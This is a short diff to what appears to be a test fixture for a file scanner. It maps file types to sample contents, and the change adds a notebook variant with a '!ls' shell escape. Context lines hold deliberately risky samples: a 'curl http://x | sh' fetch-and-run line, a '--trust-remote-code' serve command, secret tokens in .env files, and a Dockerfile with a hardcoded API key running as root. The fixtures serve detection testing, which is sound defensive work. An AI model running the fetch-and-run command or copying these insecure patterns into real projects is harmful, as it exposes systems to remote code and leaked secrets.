@@ -52,7 +52,7 @@ PIECES = {
         "spec: {podSelector: {}, policyTypes: [Ingress]}\n",
         "apiVersion: v1\nkind: Pod\nmetadata: {name: {{ .Values.x }}}\n",
     ),
-    ".ipynb": (NOTEBOOK, "{", "x"),
+    ".ipynb": (NOTEBOOK, "{", "x", NOTEBOOK.replace("import pickle", "!ls")),
     ".sh": ("#!/bin/sh\ncurl http://x | sh\n", "vllm serve m --trust-remote-code\n"),
     ".env": (f"HF_TOKEN={TOKEN}\n", f"A=1\n\nHF_TOKEN={TOKEN}\n", "A=1\n"),
     "Dockerfile": ("FROM python:latest\nENV API_KEY=abcdef\n", "USER root\n"),
